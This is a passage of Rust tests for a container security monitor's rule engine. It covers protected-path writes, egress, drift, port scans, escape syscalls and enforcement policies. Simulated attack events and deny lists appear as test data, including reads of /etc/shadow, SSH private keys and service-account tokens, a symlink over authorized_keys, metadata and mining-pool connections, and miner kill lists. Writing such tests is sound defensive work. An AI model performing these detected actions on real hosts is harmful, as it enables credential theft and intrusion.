        &mut shipped_evaluator(),
        &[web().file(FileOp::Rename, "/tmp/hosts.new", Some("/etc/hosts"), &[], 0)],
    );
    assert_eq!(rules_of(&out), ["protected-write"]);
    assert!(
        out[0]
            .summary
            .starts_with("rename of /tmp/hosts.new over protected path /etc/hosts by"),
        "{}",
        out[0].summary
    );
}

#[test]
fn file_ops_that_count_as_writes() {
    let w = web();
    let cases: &[(EnrichedEvent, &[&str], &str)] = &[
        (
            w.file(FileOp::Creat, "/usr/bin/x", None, &[], 3),
            &["protected-write"],
            "write to protected path /usr/bin/x (creat)",
        ),
        (
            w.file(FileOp::Unlink, "/lib/x.so", None, &[], 0),
            &["protected-write"],
            "deletion of protected path /lib/x.so",
        ),
        (
            w.file(FileOp::Chmod, "/usr/local/bin/x", None, &[], 0),
            &["protected-write"],
            "chmod of protected path /usr/local/bin/x",
        ),
        (
            w.file(FileOp::Truncate, "/lib64/ld.so", None, &[], 0),
            &["protected-write"],
            "write to protected path /lib64/ld.so (truncate)",
        ),
        (
            w.file(FileOp::Link, "/tmp/x", Some("/bin/x"), &[], 0),
            &["protected-write"],
            "hard link /bin/x to /tmp/x",
        ),
        (
            w.file(
                FileOp::Symlink,
                "/tmp/evil",
                Some("/root/.ssh/authorized_keys"),
                &[],
                0,
            ),
            &["protected-write"],
            "symlink /root/.ssh/authorized_keys -> /tmp/evil",
        ),
        (
            w.file(FileOp::Rename, "/etc/shadow", Some("/tmp/s"), &[], 0),
            &["protected-write"],
            "rename of protected path /etc/shadow to /tmp/s",
        ),
        (
            w.file(FileOp::Symlink, "/etc/passwd", Some("/tmp/p"), &[], 0),
            &[],
            "",
        ),
        (
            w.write("/etc/crontab"),
            &["crontab"],
            "write to protected path /etc/crontab",
        ),
        (
            w.write("/var/spool/cron/crontabs/root"),
            &["crontab"],
            "write to protected path /var/spool/cron/crontabs/root",
        ),
        (
            w.write("/boot/vmlinuz"),
            &["protected-write"],
            "write to protected path /boot/vmlinuz",
        ),
        (w.write("/tmp/scratch"), &[], ""),
        (w.write("/var/cache/nginx/x"), &[], ""),
    ];
    let mut ev = shipped_evaluator();
    for (e, want, summary) in cases {
        let out = run(&mut ev, std::slice::from_ref(e));
        assert_eq!(rules_of(&out), *want, "{:?}", e.event.body);
        if let Some(f) = out.first() {
            assert!(
                f.summary.starts_with(summary),
                "{}\n  expected: {summary}",
                f.summary
            );
        }
    }
}

#[test]
fn egress_outside_the_cluster() {
    let mut ev = shipped_evaluator();
    let out = run(
        &mut ev,
        &[web()
            .by("/usr/bin/curl")
            .connect("8.8.8.8", 443, Protocol::Tcp)],
    );
    assert_eq!(rules_of(&out), ["egress"]);
    assert_eq!(out[0].kind, AlertKind::Network);
    assert_eq!(
        out[0].summary,
        "egress to 8.8.8.8:443/tcp, not on the egress allowlist, by /usr/bin/curl (pid 4242) in container web (nginx:1.27)"
    );
    let cases: &[(&str, u16, Protocol, &[&str])] = &[
        ("127.0.0.1", 8080, Protocol::Tcp, &[]),
        ("::1", 8080, Protocol::Tcp, &[]),
        ("0.0.0.0", 80, Protocol::Tcp, &[]),
        ("10.0.0.5", 5432, Protocol::Tcp, &[]),
        ("10.96.0.10", 53, Protocol::Udp, &[]),
        ("::ffff:10.1.2.3", 80, Protocol::Tcp, &[]),
        ("2001:4860:4860::8888", 443, Protocol::Tcp, &["egress"]),
        ("1.1.1.1", 53, Protocol::Udp, &["egress"]),
        // A denied destination is its deny rule's alert alone (one alert
        // per connection), not also `egress`.
        ("169.254.169.254", 80, Protocol::Tcp, &["cloud-metadata"]),
        ("203.0.113.8", 3333, Protocol::Tcp, &["mining-pool"]),
        // In the cluster, a pool port is still a pool port.
        ("10.0.0.9", 3333, Protocol::Tcp, &["mining-pool"]),
    ];
    for (addr, port, proto, want) in cases {
        let out = run(&mut ev, &[web().connect(addr, *port, *proto)]);
        assert_eq!(rules_of(&out), *want, "{addr}:{port}");
    }
    // Egress rules are for containers; binds are not egress.
    let out = run(
        &mut ev,
        &[host("/usr/bin/curl").connect("8.8.8.8", 443, Protocol::Tcp)],
    );
    assert!(out.is_empty(), "{out:?}");
    let mut bind = web().connect("8.8.8.8", 443, Protocol::Tcp);
    if let EventBody::Network(n) = &mut bind.event.body {
        n.op = NetOp::Bind;
    }
    assert!(run(&mut ev, &[bind]).is_empty());
}

#[test]
fn drift_written_then_executed() {
    let mut ev = shipped_evaluator();
    let w = web().by("/usr/bin/curl");
    let out = run(
        &mut ev,
        &[
            w.write("/tmp/payload"),
            w.file(FileOp::Chmod, "/tmp/payload", None, &[], 0),
            w.exec("/tmp/payload", &["/tmp/payload"]),
        ],
    );
    assert_eq!(rules_of(&out), ["drift"]);
    assert_eq!(out[0].severity, Severity::High);
    assert_eq!(
        out[0].summary,
        "drift: /tmp/payload was written after the container started and then executed in container web (nginx:1.27)"
    );
    // Another container executing the same path is not drift; nor is the
    // stateless rule set, which keeps no history.
    assert!(run(&mut ev, &[db().exec("/tmp/payload", &["/tmp/payload"])]).is_empty());
    let mut out = Vec::new();
    ev.rules().evaluate(&w.exec("/tmp/payload", &[]), &mut out);
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn drift_renamed_into_place_and_forgotten_with_the_cgroup() {
    let mut ev = shipped_evaluator();
    let w = web();
    let out = run(
        &mut ev,
        &[
            w.write("/tmp/.x"),
            w.file(FileOp::Rename, "/tmp/.x", Some("/app/bin/worker"), &[], 0),
            w.exec("/app/bin/worker", &["worker"]),
        ],
    );
    assert_eq!(rules_of(&out), ["drift"]);
    // A failed write leaves nothing to execute.
    let out = run(
        &mut ev,
        &[
            w.file(
                FileOp::Open,
                "/app/bin/other",
                None,
                &["O_WRONLY", "O_CREAT"],
                -28,
            ),
            w.exec("/app/bin/other", &[]),
        ],
    );
    assert!(out.is_empty(), "{out:?}");
    let rmdir = host("/usr/bin/containerd").event(EventBody::Cgroup(CgroupChange {
        op: CgroupOp::Rmdir,
        id: 42,
        level: 3,
        path: "/kubepods.slice/x".into(),
    }));
    let out = run(&mut ev, &[rmdir, w.exec("/app/bin/worker", &[])]);
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn memfd_exec() {
    let mut ev = shipped_evaluator();
    let out = run(&mut ev, &[web().exec("/memfd:x", &["x"])]);
    assert_eq!(rules_of(&out), ["memfd-exec"]);
    assert_eq!(out[0].severity, Severity::Critical);
    assert_eq!(
        out[0].summary,
        "fileless exec of /memfd:x (an in-memory or descriptor-only file) in container web (nginx:1.27)"
    );
    let out = run(
        &mut ev,
        &[host("/bin/bash")
            .parent("/bin/bash")
            .exec("/proc/self/fd/3", &[])],
    );
    assert_eq!(rules_of(&out), ["memfd-exec"]);
    // runc's self-clone on the host is excepted.
    let shim = host("/usr/bin/runc").parent("/usr/bin/containerd-shim-runc-v2");
    assert!(run(&mut ev, &[shim.exec("/dev/fd/5", &["runc", "init"])]).is_empty());
    // ... but not in a container.
    let out = run(
        &mut ev,
        &[web()
            .parent("/usr/bin/containerd-shim-runc-v2")
            .exec("/dev/fd/5", &[])],
    );
    assert_eq!(rules_of(&out), ["memfd-exec"]);
    // runc's clone inside the container's cgroup, started by runc itself, is.
    let runc = web().parent("/usr/sbin/runc");
    assert!(run(&mut ev, &[runc.exec("/dev/fd/6", &["runc", "init"])]).is_empty());
}

#[test]
fn port_scan_burst_is_one_alert() {
    let mut ev = shipped_evaluator();
    let w = web().by("/usr/bin/nmap");
    let events: Vec<EnrichedEvent> = (0..50u16)
        .map(|i| {
            w.clone()
                .at(2_000_000_000_000 + u64::from(i) * 10_000_000)
                .connect("10.0.0.9", 1000 + i, Protocol::Tcp)
        })
        .collect();
    let out = run(&mut ev, &events);
    assert_eq!(rules_of(&out), ["port-scan"], "{out:#?}");
    assert_eq!(out[0].kind, AlertKind::Network);
    assert_eq!(
        out[0].summary,
        "port scan: 20 distinct ports on 1 host within 10s, last by /usr/bin/nmap (pid 4242) in container web (nginx:1.27)"
    );
    let scan = out[0].scan.as_ref().expect("the scan's destinations");
    assert_eq!(scan.ports, (1000..1020).collect::<Vec<u16>>());
    assert_eq!(scan.hosts, ["10.0.0.9"]);
    assert_eq!((scan.distinct_ports, scan.distinct_hosts), (20, 1));
    // Ordinary traffic, many connections to few ports, is no scan.
    let calm: Vec<EnrichedEvent> = (0..200u16)
        .map(|i| {
            db().at(u64::from(i) * 1_000_000)
                .connect("10.0.0.7", 5432 + i % 3, Protocol::Tcp)
        })
        .collect();
    assert!(run(&mut ev, &calm).is_empty());
}

#[test]
fn container_engine_files_on_the_host() {
    let mut ev = shipped_evaluator();
    let out = run(
        &mut ev,
        &[host("/usr/bin/vim").write("/etc/docker/daemon.json")],
    );
    assert_eq!(rules_of(&out), ["engine-config-write"]);
    assert_eq!(out[0].policy.as_ref(), "default/container-engine");
    assert_eq!(
        out[0].summary,
        "write to protected path /etc/docker/daemon.json (open O_WRONLY|O_CREAT|O_TRUNC) by /usr/bin/vim (pid 777) on the host"
    );
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "/usr/bin/vim",
            "/lib/systemd/system/docker.service",
            &["engine-config-write"],
        ),
        (
            "/usr/bin/vim",
            "/etc/systemd/system/docker.socket",
            &["engine-config-write"],
        ),
        (
            "/usr/bin/vim",
            "/etc/systemd/system/docker.service.d/override.conf",
            &["engine-config-write"],
        ),
        (
            "/usr/bin/vim",
            "/etc/default/docker",
            &["engine-config-write"],
        ),
        (
            "/usr/bin/vim",
            "/etc/containerd/config.toml",
            &["engine-config-write"],
        ),
        ("/usr/bin/cp", "/usr/bin/runc", &["engine-binary-write"]),
        (
            "/usr/bin/cp",
            "/usr/bin/containerd-shim-runc-v2",
            &["engine-binary-write"],
        ),
        (
            "/usr/bin/cp",
            "/usr/local/bin/containerd",
            &["engine-binary-write"],
        ),
        (
            "/usr/bin/vim",
            "/var/lib/docker/containers/x/config.v2.json",
            &["engine-state-write"],
        ),
        (
            "/usr/bin/dockerd",
            "/var/lib/docker/containers/x/config.v2.json",
            &[],
        ),
        (
            "/usr/bin/containerd",
            "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db",
            &[],
        ),
        // Host writes to /etc are the host's business.
        ("/usr/bin/vim", "/etc/hosts", &[]),
    ];
    for (exe, path, want) in cases {
        let out = run(&mut ev, &[host(exe).write(path)]);
        assert_eq!(rules_of(&out), *want, "{exe} -> {path}");
    }
    // The same file inside a container is its own (protected) /etc.
    let out = run(&mut ev, &[web().write("/etc/docker/daemon.json")]);
    assert_eq!(rules_of(&out), ["protected-write"]);
}

/// A user's policy for the nginx image, loaded after the shipped pack.
const NGINX: &str = "policies:
  - name: shop/web
    description: The nginx front end.
    selector:
      image: [\"nginx:*\"]
      namespace: [shop]
    rules:
      - name: unexpected-process
        severity: high
        process:
          allow:
            - exe: [/docker-entrypoint.sh, /usr/sbin/nginx]
            - exe: [/bin/sh, /docker-entrypoint.d/*.sh, /usr/bin/envsubst, /usr/bin/find]
              parents: [/docker-entrypoint.sh, /bin/sh, /bin/dash]
      - name: unexpected-egress
        severity: medium
        egress:
          allow:
            - to: [loopback]
            - to: [cluster]
              ports: [\"8000-8099\", 5432]
              protocols: [tcp]
            - to: [cluster-dns]
              ports: [53]
  - name: default/files
    extend: true
    exceptions:
      - reason: the entrypoint renders its config from templates
        rules: [protected-write]
        selector: {image: [\"nginx:*\"]}
        paths: [/etc/nginx/conf.d/**]
";

fn with_nginx_policy() -> Evaluator {
    let user = tempfile::tempdir().unwrap();
    fs::write(user.path().join("shop.yaml"), NGINX).unwrap();
    Evaluator::new(check_dir(&[shipped(), user.path().to_path_buf()]).unwrap())
}

#[test]
fn allowed_workload_behaviour_raises_nothing() {
    let mut ev = with_nginx_policy();
    let entry = web().parent("/usr/bin/containerd-shim-runc-v2");
    let sh = web().by("/bin/sh").parent("/docker-entrypoint.sh");
    let nginx = web().by("/usr/sbin/nginx").parent("/docker-entrypoint.sh");
    let events = [
        entry.exec("/docker-entrypoint.sh", &["/docker-entrypoint.sh", "nginx"]),
        web().exec(
            "/bin/sh",
            &[
                "sh",
                "-c",
                "/docker-entrypoint.d/20-envsubst-on-templates.sh",
            ],
        ),
        sh.exec("/docker-entrypoint.d/20-envsubst-on-templates.sh", &[]),
        sh.write("/etc/nginx/conf.d/default.conf"),
        web()
            .parent("/bin/sh")
            .exec("/usr/bin/envsubst", &["envsubst"]),
        web()
            .parent("/docker-entrypoint.sh")
            .exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
        nginx.write("/var/cache/nginx/client_temp/0001"),
        nginx.write("/tmp/nginx.pid"),
        nginx.file(
            FileOp::Rename,
            "/var/cache/nginx/a",
            Some("/var/cache/nginx/b"),
            &[],
            0,
        ),
        nginx.connect("10.0.3.4", 8080, Protocol::Tcp),
        nginx.connect("10.0.3.5", 5432, Protocol::Tcp),
        nginx.connect("10.96.0.10", 53, Protocol::Udp),
        nginx.connect("127.0.0.1", 8081, Protocol::Tcp),
    ];
    let out = run(&mut ev, &events);
    assert!(out.is_empty(), "{out:#?}");
}

#[test]
fn workload_allowlists_judge_what_is_not_on_them() {
    let mut ev = with_nginx_policy();
    let cases: &[(EnrichedEvent, &[&str])] = &[
        // Not on the allowlist, on no deny list.
        (
            web().exec("/usr/bin/perl", &["perl"]),
            &["unexpected-process"],
        ),
        // On a deny list too: both say so.
        (
            web().exec("/usr/sbin/sshd", &["sshd"]),
            &["ssh-server", "unexpected-process"],
        ),
        // A shell from the wrong parent: not allowlisted, so the shell rule fires as well.
        (
            web().parent("/usr/sbin/nginx").exec("/bin/bash", &["bash"]),
            &["shell", "unexpected-process"],
        ),
        // Egress to the cluster on an undeclared port.
        (
            web().connect("10.0.3.4", 22, Protocol::Tcp),
            &["unexpected-egress"],
        ),
        (
            web().connect("8.8.8.8", 443, Protocol::Tcp),
            &["egress", "unexpected-egress"],
        ),
        // The exception covers conf.d only.
        (web().write("/etc/nginx/nginx.conf"), &["protected-write"]),
        // Other images keep the shipped behaviour only.
        (db().exec("/usr/bin/perl", &["perl"]), &[]),
        (db().write("/etc/nginx/conf.d/x.conf"), &["protected-write"]),
    ];
    for (e, want) in cases {
        let out = run(&mut ev, std::slice::from_ref(e));
        let mut got = rules_of(&out);
        got.sort_unstable();
        assert_eq!(got, *want, "{:?}", e.event.body);
    }
}

#[test]
fn pending_metadata_is_still_a_container() {
    let mut ev = shipped_evaluator();
    let mut w = web();
    w.status = MetadataStatus::Pending;
    w.container = Some(ContainerInfo {
        id: Some("ab".repeat(32)),
        ..ContainerInfo::default()
    });
    let out = run(&mut ev, &[w.exec("/usr/sbin/sshd", &["sshd"])]);
    assert_eq!(rules_of(&out), ["ssh-server"]);
    assert_eq!(
        out[0].summary,
        "denied process /usr/sbin/sshd in container abababababab"
    );
}

#[test]
fn selection_follows_what_is_known_of_the_container() {
    // The evaluator remembers which policies select a cgroup's workload; what
    // it remembers must change as soon as the event shows another workload.
    let mut ev = with_nginx_policy();
    let perl = |ev: &mut Evaluator, a: Actor| {
        let out = run(ev, &[a.exec("/usr/bin/perl", &["perl"])]);
        rules_of(&out)
            .into_iter()
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    let mut pending = web();
    pending.status = MetadataStatus::Pending;
    pending.container = Some(ContainerInfo {
        id: Some("3f9c".repeat(16)),
        ..ContainerInfo::default()
    });
    // No image known: the nginx policy does not select it yet.
    assert!(perl(&mut ev, pending.clone()).is_empty());
    // The same cgroup once the runtime's files are read.
    assert_eq!(perl(&mut ev, web()), ["unexpected-process"]);
    // Another workload in the same cgroup id (the id reused).
    let mut other = db();
    other.cgroup = web().cgroup;
    assert!(perl(&mut ev, other).is_empty());
    assert_eq!(perl(&mut ev, web()), ["unexpected-process"]);
    assert!(perl(&mut ev, pending).is_empty());
    // Removed and made again: selected afresh.
    let rmdir = host("/usr/lib/systemd/systemd").event(EventBody::Cgroup(CgroupChange {
        op: CgroupOp::Rmdir,
        id: web().cgroup,
        level: 2,
        path: "/kubepods.slice/cri-containerd-3f9c.scope".into(),
    }));
    assert!(run(&mut ev, &[rmdir]).is_empty());
    assert_eq!(perl(&mut ev, web()), ["unexpected-process"]);
}

#[test]
fn replacing_rules_keeps_what_containers_wrote() {
    let mut ev = shipped_evaluator();
    let w = web();
    assert!(run(&mut ev, &[w.write("/tmp/p")]).is_empty());
    ev.replace_rules(check_dir(&[shipped()]).unwrap());
    assert_eq!(rules_of(&run(&mut ev, &[w.exec("/tmp/p", &[])])), ["drift"]);
}

#[test]
fn readme_examples_load() {
    let readme = fs::read_to_string(shipped().join("README.md")).unwrap();
    let mut blocks = Vec::new();
    let mut current: Option<String> = None;
    for line in readme.lines() {
        match (&mut current, line.trim_end()) {
            (None, "```yaml") => current = Some(String::new()),
            (Some(b), "```") => {
                blocks.push(std::mem::take(b));
                current = None;
            }
            (Some(b), l) => {
                b.push_str(l);
                b.push('\n');
            }
            _ => {}
        }
    }
    let files: Vec<&String> = blocks
        .iter()
        .filter(|b| {
            b.lines()
                .find(|l| !l.trim_start().starts_with('#'))
                .is_some_and(|l| l.starts_with("networks:") || l.starts_with("policies:"))
        })
        .collect();
    assert!(files.len() >= 3, "{} whole-file examples", files.len());
    for (i, text) in files.iter().enumerate() {
        let user = tempfile::tempdir().unwrap();
        fs::write(user.path().join(format!("{i}.yaml")), text).unwrap();
        if let Err(diags) = check_dir(&[shipped(), user.path().to_path_buf()]) {
            panic!("README example {i}:\n{text}\n{diags:#?}");
        }
    }
}

/// Counts allocations made by the current thread.
mod counting {
    use std::{
        alloc::{GlobalAlloc, Layout, System},
        cell::Cell,
    };

    thread_local! {
        static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
    }

    pub struct Counting;

    // SAFETY: forwards to the system allocator; only counts.
    unsafe impl GlobalAlloc for Counting {
        unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
            ALLOCATIONS.with(|c| c.set(c.get() + 1));
            // SAFETY: same contract as ours.
            unsafe { System.alloc(layout) }
        }
        unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
            // SAFETY: same contract as ours.
            unsafe { System.dealloc(ptr, layout) }
        }
        unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
            ALLOCATIONS.with(|c| c.set(c.get() + 1));
            // SAFETY: same contract as ours.
            unsafe { System.realloc(ptr, layout, new_size) }
        }
    }

    pub fn allocations() -> u64 {
        ALLOCATIONS.with(Cell::get)
    }
}

#[global_allocator]
static COUNTING: counting::Counting = counting::Counting;

#[test]
fn evaluation_without_findings_does_not_allocate() {
    let mut ev = with_nginx_policy();
    let nginx = web().by("/usr/sbin/nginx").parent("/docker-entrypoint.sh");
    let events = [
        web().exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
        web().exec("/bin/sh", &["sh", "-c", "true"]),
        nginx.write("/var/cache/nginx/client_temp/0001"),
        nginx.file(
            FileOp::Open,
            "/etc/nginx/nginx.conf",
            None,
            &["O_RDONLY"],
            3,
        ),
        nginx.connect("10.0.3.4", 8080, Protocol::Tcp),
        nginx.connect("10.96.0.10", 53, Protocol::Udp),
        nginx.connect("::1", 8081, Protocol::Tcp),
        host("/usr/bin/dockerd").write("/var/lib/docker/containers/x/config.v2.json"),
        host("/usr/bin/vim").write("/etc/hosts"),
    ];
    let mut out = Vec::with_capacity(16);
    // Warm-up: regex caches and detector state are filled on first use.
    for e in &events {
        ev.evaluate(e, &mut out);
    }
    assert!(out.is_empty(), "{out:#?}");
    let before = counting::allocations();
    for _ in 0..100 {
        for e in &events {
            ev.evaluate(e, &mut out);
        }
    }
    assert_eq!(counting::allocations() - before, 0);
    assert!(out.is_empty());
}

fn call(actor: &Actor, nr: i64, args: [u64; 6], result: i64, uid: u32) -> EnrichedEvent {
    let info = crate::event::syscall::describe(nr as u32, Some(&args), result).unwrap();
    let mut e = actor.event(EventBody::Syscall(info));
    e.event.header.uid = uid;
    e
}

fn refused(actor: &Actor, nr: i64) -> EnrichedEvent {
    let mut info = crate::event::syscall::describe(nr as u32, None, -1).unwrap();
    info.refused = true;
    actor.event(EventBody::Syscall(info))
}

fn read(actor: &Actor, path: &str) -> EnrichedEvent {
    actor.file(FileOp::Open, path, None, &["O_RDONLY"], 3)
}

#[test]
fn escape_moves_credential_reads_and_runtime_sockets() {
    let newnet = 0x4000_0000;
    // Each attack with the one rule it must raise, then its benign twin.
    let cases: Vec<(EnrichedEvent, Vec<&str>)> = vec![
        (
            call(&web(), libc::SYS_setns, [3, newnet, 0, 0, 0, 0], 0, 0),
            vec!["namespace-change"],
        ),
        (refused(&web(), libc::SYS_setns), vec!["namespace-change"]),
        (
            call(
                &host("/usr/bin/dockerd"),
                libc::SYS_setns,
                [3, newnet, 0, 0, 0, 0],
                0,
                0,
            ),
            vec![],
        ),
        (
            call(
                &web().by("runc:[2:INIT]"),
                libc::SYS_setns,
                [3, newnet, 0, 0, 0, 0],
                0,
                0,
            ),
            vec![],
        ),
        (
            call(&web(), libc::SYS_mount, [0; 6], 0, 0),
            vec!["mount-syscall"],
        ),
        (
            call(&web(), libc::SYS_bpf, [5, 0, 0, 0, 0, 0], 3, 0),
            vec!["kernel-module-or-bpf"],
        ),
        (
            call(&web(), libc::SYS_finit_module, [3, 0, 0, 0, 0, 0], -1, 0),
            vec!["kernel-module-or-bpf"],
        ),
        // A non-root process becoming root; root dropping to a user is fine.
        (
            call(&web(), libc::SYS_setuid, [0; 6], 0, 1000),
            vec!["privilege-escalation"],
        ),
        (
            call(&web(), libc::SYS_setuid, [101, 0, 0, 0, 0, 0], 0, 0),
            vec![],
        ),
        (
            call(
                &web(),
                libc::SYS_setresuid,
                [1000, 1000, u32::MAX as u64, 0, 0, 0],
                0,
                1000,
            ),
            vec![],
        ),
        (
            call(&web(), libc::SYS_ptrace, [16, 77, 0, 0, 0, 0], 0, 0),
            vec!["process-injection"],
        ),
        (
            call(&web(), libc::SYS_userfaultfd, [0; 6], 3, 0),
            vec!["exploit-primitive"],
        ),
        (
            call(&web(), libc::SYS_socket, [17, 3, 0, 0, 0, 0], 3, 0),
            vec!["raw-socket"],
        ),
        (read(&web(), "/etc/shadow"), vec!["credential-read"]),
        (
            read(&web(), "/root/.ssh/id_ed25519"),
            vec!["credential-read"],
        ),
        (read(&web(), "/root/.ssh/id_ed25519.pub"), vec![]),
        (read(&web(), "/etc/passwd"), vec![]),
        (
            read(
                &web(),
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
            vec!["service-account-token-read"],
        ),
        (
            web().file(FileOp::Connect, "/var/run/docker.sock", None, &[], 0),
            vec!["runtime-socket"],
        ),
        (
            web().file(FileOp::Connect, "/run/app/app.sock", None, &[], 0),
            vec![],
        ),
        // A write of a credential file is a protected write, not a read.
        (web().write("/etc/shadow"), vec!["protected-write"]),
    ];
    for (i, (event, want)) in cases.iter().enumerate() {
        let mut ev = shipped_evaluator();
        let out = run(&mut ev, std::slice::from_ref(event));
        assert_eq!(rules_of(&out), *want, "case {i}: {:?}", event.event.body);
    }
    let mut ev = shipped_evaluator();
    let out = run(&mut ev, &[refused(&web(), libc::SYS_setns)]);
    assert!(out[0].attempt, "{:?}", out[0]);
    assert_eq!(out[0].kind, AlertKind::Syscall);
    assert!(
        out[0].summary.contains("refused by the seccomp profile"),
        "{}",
        out[0].summary
    );
    let out = run(
        &mut ev,
        &[call(&web(), libc::SYS_setns, [3, newnet, 0, 0, 0, 0], 0, 0)],
    );
    assert_eq!(
        &*out[0].summary,
        "setns(fd=3, nstype=CLONE_NEWNET) by /bin/sh (pid 4242) in container web (nginx:1.27)",
    );
}

// ---------------------------------------------------------------- enforcement

const ENFORCED: &str = r#"policies:
  - name: shop/web
    selector: {name: [web]}
    rules:
      - name: egress
        severity: medium
        action: deny
        egress:
          allow:
            - to: [127.0.0.0/8]
              ports: [8080, "9000-9010"]
              protocols: [tcp]
            - to: [10.0.0.0/8]
      - name: metadata
        severity: high
        action: deny
        egress:
          deny:
            - to: [10.1.2.3]
              ports: [80]
      - name: miner
        severity: high
        action: kill
        process:
          deny:
            - exe: [/usr/bin/xmrig, "**/minerd"]
            - name: [cpuminer]
      - name: sshd
        severity: high
        process:
          deny:
            - exe: ["**/sshd"]
"#;

#[test]
fn rule_check_actions() {
    let bad = |body: &str| {
        errors(&[(
            "a.yaml",
            &format!(
                "policies:\n  - name: p\n    selector: {{containers: true}}\n    rules:\n      - name: r\n        severity: low\n{body}"
            ),
        )])
    };
    assert_eq!(
        bad("        action: block\n        egress: {allow: [{to: [10.0.0.0/8]}]}\n"),
        [
            "a.yaml:7:17: error: unknown action `block`\n  hint: use alert (the default), deny (egress rules) or kill (process deny lists)"
        ]
    );
    assert_eq!(
        bad("        action: deny\n        process: {deny: [{exe: [/bin/sh]}]}\n"),
        [
            "a.yaml:7:17: error: `action: deny` applies to egress rules; rule `r` is not one\n  hint: use `action: kill` on a process `deny` list, or leave `action` out (alert only)"
        ]
    );
    assert_eq!(
        bad("        action: kill\n        egress: {allow: [{to: [10.0.0.0/8]}]}\n"),
        [
            "a.yaml:7:17: error: `action: kill` applies to process `deny` lists; rule `r` is not one\n  hint: use `action: deny` on an egress rule, or leave `action` out (alert only)"
        ]
    );
    let e = bad("        action: kill\n        process: {deny: [{exe: [\"/usr/bin/py*\"]}]}\n");
    assert_eq!(e.len(), 1);
    assert!(
        e[0].starts_with("a.yaml:8:33: error: `action: kill` cannot match the glob `/usr/bin/py*`"),
        "{e:?}"
    );
    let e = bad(
        "        action: kill\n        process: {deny: [{exe: [/usr/bin/pip], args: [install]}]}\n",
    );
    assert!(
        e[0].starts_with("a.yaml:8:55: error: `action: kill` cannot check `args` or `parents`"),
        "{e:?}"
    );
    let e = bad(
        "        action: kill\n        process: {deny: [{exe: [/bin/sh]}], unless_allowed: true}\n",
    );
    assert!(e[0].contains("cannot honour `unless_allowed`"), "{e:?}");
    let e = bad("        action: deny\n        egress: {allow: [{dns: [\"*.example.com\"]}]}\n");
    assert!(
        e[0].starts_with("a.yaml:8:33: error: `dns` cannot be enforced"),
        "{e:?}"
    );
    let e = errors(&[(
        "a.yaml",
        "policies:\n  - name: p\n    selector: {containers: true}\n    rules:\n      - name: r\n        severity: low\n        action: deny\n        egress: {allow: [{to: [10.0.0.0/8]}]}\n      - name: q\n        severity: low\n        process: {deny: [{exe: [/bin/sh]}]}\n    exceptions:\n      - exe: [/usr/bin/curl]\n",
    )]);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with("a.yaml:13:9: error: this exception cannot be honoured in the kernel for rule `r` (action: deny): it has `exe`"),
        "{e:?}"
    );
    // The same exception for the other rule alone is fine; so is `action` in an extension.
    load(
        None,
        &[(
            "a.yaml",
            "policies:\n  - name: p\n    selector: {containers: true}\n    rules:\n      - name: r\n        severity: low\n        action: deny\n        egress: {allow: [{to: [10.0.0.0/8]}]}\n      - name: q\n        severity: low\n        process: {deny: [{exe: [/bin/sh]}]}\n    exceptions:\n      - exe: [/usr/bin/curl]\n        rules: [q]\n      - to: [10.9.0.0/16]\n        selector: {name: [web]}\n",
        )],
    )
    .unwrap();
    let set = load(
        Some(&shipped()),
        &[(
            "z.yaml",
            "policies:\n  - name: default/egress\n    extend: true\n    rules:\n      - name: egress\n        action: deny\n",
        )],
    )
    .unwrap();
    let egress = set.rules.iter().find(|r| &*r.name == "egress").unwrap();
    assert_eq!(egress.action, Action::Deny);
}

fn web_workload(info: &ContainerInfo) -> Workload<'_> {
    Workload::container(info, None)
}

#[test]
fn enforcement_of_a_workload() {
    let set = load(None, &[("a.yaml", ENFORCED)]).unwrap();
    let web = ContainerInfo {
        name: Some("web".into()),
        ..Default::default()
    };
    let plan = set.enforcement(&web_workload(&web)).unwrap();
    assert_eq!(
        plan.rules,
        ["shop/web/egress", "shop/web/metadata", "shop/web/miner"]
    );
    assert_eq!(plan.kill_paths, ["/usr/bin/xmrig"]);
    assert_eq!(plan.kill_names, ["cpuminer", "minerd"]);
    let egress = plan.egress.unwrap();
    let seg = |lo, hi, allow| monitor_common::PortSegment { lo, hi, allow };
    let table: Vec<(String, Vec<monitor_common::PortSegment>)> = egress
        .iter()
        .map(|p| (p.net.to_string(), p.segments.clone()))
        .collect();
    assert_eq!(
        table,
        [
            // Nothing is open outside the allowlist.
            ("0.0.0.0/0".to_owned(), vec![]),
            // Everything below 10/8, but port 80 of 10.1.2.3 (the deny list).
            ("10.0.0.0/8".to_owned(), vec![seg(0, 65535, 7)]),
            (
                "127.0.0.0/8".to_owned(),
                vec![seg(8080, 8080, 1), seg(9000, 9010, 1)]
            ),
            (
                "10.1.2.3/32".to_owned(),
                vec![seg(0, 79, 7), seg(81, 65535, 7)]
            ),
            ("::/0".to_owned(), vec![]),
        ]
    );
    // Another container: nothing.
    let db = ContainerInfo {
        name: Some("db".into()),
        ..Default::default()
    };
    assert!(set.enforcement(&web_workload(&db)).unwrap().is_empty());
}

#[test]
fn selector_exception_lifts_enforcement_and_destination_exception_opens() {
    let text = format!(
        "{ENFORCED}    exceptions:\n      - rules: [miner]\n        selector: {{name: [web]}}\n      - rules: [egress]\n        to: [192.0.2.0/24]\n        ports: [443]\n"
    );
    let set = load(None, &[("a.yaml", &text)]).unwrap();
    let web = ContainerInfo {
        name: Some("web".into()),
        ..Default::default()
    };
    let plan = set.enforcement(&web_workload(&web)).unwrap();
    assert!(plan.kill_paths.is_empty() && plan.kill_names.is_empty());
    let egress = plan.egress.unwrap();
    let p = egress
        .iter()
        .find(|p| p.net.to_string() == "192.0.2.0/24")
        .unwrap();
    assert_eq!(
        p.segments,
        [monitor_common::PortSegment {
            lo: 443,
            hi: 443,
            allow: 7
        }]
    );
}

#[test]
fn findings_of_enforcing_rules_say_what_was_done() {
